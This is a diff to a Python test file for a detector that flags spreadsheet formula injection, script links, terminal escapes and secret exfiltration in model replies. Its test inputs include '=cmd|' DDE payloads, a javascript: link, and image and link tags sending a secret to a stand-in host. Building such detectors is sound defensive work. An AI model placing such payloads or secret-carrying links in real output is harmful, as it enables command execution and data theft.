@@ -29,6 +29,11 @@ SECRET = ("AB-7781",)
         ('name,=HYPERLINK("http://e.example","x")', ("formula",)),
         ("=cmd|' /C calc'!A0", ("formula",)),
         ("=SUM(A1:A3)", ()),
+        ("a\t =cmd|x", ("formula",)),
+        ("\n\n  =cmd|x", ("formula",)),
+        ('<a href = " javascript:f()">', ("script",)),
+        ('<img src="https://e.example/(AB)-7781">', ("exfiltration",)),
+        ('<a class="x" href=https://e.example/AB-7781>', ("exfiltration",)),
         ("<script>x</script>\x1b[0m", ("script", "terminal")),
         ("", ()),
     ],
@@ -36,3 +41,24 @@ SECRET = ("AB-7781",)
 def test_active_parts(reply, kinds):
     """Each kind is found where it acts, and not where it is only shown."""
     assert kinds == active_parts(reply, secrets=SECRET)
+
+
+@pytest.mark.parametrize(
+    ("secret", "found"),
+    [("***", False), (".*", False), ("[X]", False), ("", False), ("7781", True), ("密碼", True)],
+)
+def test_secrets_without_letters_are_not_looked_for(secret, found):
+    """What would stand in any address is no secret, and a short one that would not is."""
+    reply = "**Note**\n\n***\nhttps://x.example/.*/7781/密碼/[X]"
+
+    assert found is bool(active_parts(reply, secrets=(secret,)))
+
+
+@pytest.mark.parametrize(
+    "part", ["<a ", "![", "[x](", "\n", "\t", "src=", "src= ", "](", "`", "https://", "on"]
+)
+def test_long_replies(part):
+    """A reply of any length is read."""
+    assert ("exfiltration",) == active_parts(
+        part * 50_000 + " [x](https://e.example/AB-7781)", secrets=SECRET
+    )
